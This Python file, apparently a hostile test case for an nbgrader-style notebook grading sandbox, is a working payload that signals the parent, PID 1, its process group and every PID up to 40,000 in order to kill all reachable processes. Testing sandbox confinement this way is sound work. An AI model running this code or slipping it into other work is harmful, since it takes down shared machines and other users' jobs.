"""Kills its parent, its group, the session and everything that a signal can reach.

Would end the grader and with it the grading of everybody else.

Plain nbgrader: not run there, since nothing confines it: it would end every process of the machine.
"""

# %%
import os
import signal

for target in (os.getppid(), 1, -1, 0, -os.getpgrp(), os.getsid(0)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if target not in (0, -1, os.getpid(), -os.getpgrp()):
                os.kill(target, number)
        except OSError:
            pass
for target in range(2, 40_000):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
